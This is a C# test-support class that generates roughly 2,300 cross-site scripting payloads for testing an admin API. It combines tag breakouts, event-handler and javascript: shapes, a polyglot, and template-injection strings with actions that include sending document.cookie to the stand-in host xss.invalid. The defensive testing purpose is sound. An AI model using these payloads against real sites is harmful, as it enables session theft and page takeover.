namespace ApiAdmin.Tests.Support;

/// <summary>
/// Markup that runs script wherever a text is taken for HTML: known shapes multiplied out. Each one leaves a mark
/// (<c>window.ran</c>), opens a dialog or calls out to a host that does not exist.
/// </summary>
internal static class XssPayloads
{
    private static readonly string[] Breakouts =
    [
        "", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "\"></option></select>", "</pre></code>", "&lt;/p&gt;</p>", "\u2028\">", "{{", "${",
    ];

    private static readonly string[] Actions = ["window.ran=1", "alert(1)", "fetch('http://xss.invalid/'+document.cookie)", "parent.document.title='ran'"];

    private static readonly string[] Handlers =
    [
        "<img src=x onerror={0}>", "<img src=\"http://xss.invalid/i.png\" onload={0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>", "<body onload={0}>", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>",
        "<details open ontoggle={0}>", "<video><source onerror={0}></video>", "<audio src=x onerror={0}>", "<marquee onstart={0}>", "<script>{0}</script>",
        "<script src=http://xss.invalid/x.js></script>", "<iframe srcdoc=\"<script>{0}</script>\"></iframe>", "<iframe src=\"javascript:{0}\"></iframe>",
        "<a href=\"javascript:{0}\" autofocus onfocus={0}>x</a>", "<a href=\"java\tscript:{0}\">x</a>", "<object data=\"javascript:{0}\"></object>",
        "<embed src=\"javascript:{0}\">", "<math><mtext><style><img src=x onerror={0}></style></mtext></math>", "<form action=\"javascript:{0}\"><button autofocus>x</button></form>",
        "<button formaction=\"javascript:{0}\" autofocus onfocus={0}>x</button>", "<style>@import 'http://xss.invalid/s.css';</style><p style=\"animation:x\" onanimationstart={0}>",
        "<link rel=stylesheet href=http://xss.invalid/l.css onerror={0}>", "<base href=\"http://xss.invalid/\">", "<meta http-equiv=refresh content=\"0;url=javascript:{0}\">",
        "<template><img src=x onerror={0}></template>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">", "<table background=\"http://xss.invalid/b.png\">",
        "<div onpointerover={0} style=\"position:fixed;inset:0;z-index:99999\">", "javascript:{0}", "data:text/html,<script>{0}</script>", "\" onmouseover={0} x=\"", "' autofocus onfocus={0} x='",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{0} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={0}//>\\x3e", "<!--><img src=x onerror={0}>", "<x contenteditable onfocus={0} autofocus>",
        "{{constructor.constructor('{0}')()}}", "@(new System.Exception(\"{0}\"))",
    ];

    /// <summary>About 2,300.</summary>
    public static IReadOnlyList<string> All { get; } =
        [.. Handlers.SelectMany(shape => Breakouts.SelectMany(start => Actions.Select(action => start + shape.Replace("{0}", action, StringComparison.Ordinal)))).Distinct(StringComparer.Ordinal)];
}
